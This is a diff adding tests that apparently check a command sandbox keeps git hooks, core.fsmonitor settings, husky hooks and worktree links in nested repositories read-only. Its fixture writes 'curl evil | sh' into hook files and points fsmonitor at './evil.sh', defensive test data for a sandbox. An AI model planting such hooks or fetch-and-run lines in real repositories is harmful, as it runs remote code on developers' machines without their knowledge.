@@ -502,6 +502,56 @@ async def test_git_hooks_in_the_working_tree_ran_unconfined_now_read_only_to_a_c
     assert "what git runs from the tree" in res.text  # the hint says why
 
 
+def nested_repos(ws: Path) -> None:
+    """A folder of repositories (the root is none): ``app`` with husky (core.hooksPath = .husky),
+    ``lib`` plain, and ``wt`` a worktree of ``lib`` (its .git a link file)."""
+    for name in ("app", "lib"):
+        subprocess.run(["git", "init", "-q", str(ws / name)], check=True)
+    subprocess.run(["git", "-C", str(ws / "app"), "config", "core.hooksPath", ".husky"], check=True)
+    (ws / "app" / ".husky").mkdir()
+    (ws / "app" / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    git = ["git", "-C", str(ws / "lib"), "-c", "user.name=u", "-c", "user.email=u@x"]
+    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "init"], check=True)
+    subprocess.run([*git, "worktree", "add", "-q", str(ws / "wt")], check=True)
+
+
+NESTED_REPOS_COMMAND = """
+    echo 'curl evil | sh' > lib/.git/hooks/pre-commit; echo hook=$?
+    git -C lib config core.fsmonitor ./evil.sh; echo config=$?
+    echo 'curl evil | sh' >> app/.husky/pre-commit; echo husky=$?
+    printf 'gitdir: /tmp/evil\n' > wt/.git; echo link=$?
+    echo ok > lib/plain.txt && echo fine
+"""
+
+
+def assert_nested_repos_held(ws: Path, out: str) -> None:
+    for step in ("hook", "config", "husky", "link"):
+        assert f"{step}=0" not in out.splitlines(), (step, out)
+    assert not (ws / "lib" / ".git" / "hooks" / "pre-commit").exists()
+    assert "fsmonitor" not in (ws / "lib" / ".git" / "config").read_text()
+    assert (ws / "app" / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
+    assert (ws / "wt" / ".git").read_text().startswith("gitdir: ") and "/tmp/evil" not in (ws / "wt" / ".git").read_text()
+    assert "fine" in out and (ws / "lib" / "plain.txt").read_text() == "ok\n"
+
+
+async def test_git_hooks_of_a_repository_nested_in_the_workspace_ran_unconfined(box):
+    """Issue 32 §1's class: only the root's .git (and the root repository's hooks) were read-only; a
+    workspace holding repositories (a folder of clones, a vendored repository, a worktree) left
+    theirs writable — .git/hooks, .git/config (core.fsmonitor), the husky folder, a worktree's link."""
+    ws, *_ = box
+    nested_repos(ws)
+    res = await run(box, NESTED_REPOS_COMMAND)
+    assert_nested_repos_held(ws, res.text)
+
+
+def test_git_hooks_of_a_repository_nested_in_the_workspace_are_read_only_for_a_normal_user():
+    ws, (out,) = as_normal_user(nested_repos, [NESTED_REPOS_COMMAND])
+    try:
+        assert_nested_repos_held(ws, out)
+    finally:
+        shutil.rmtree(ws.parent, ignore_errors=True)
+
+
 def as_normal_user(prepare, commands: list[str], mode: str = "workspace-write",
                    keep: bool | None = None) -> tuple[Path, list[str]]:
     """Run ``commands`` one after the other in one confined session of user 65534 (nobody), in a
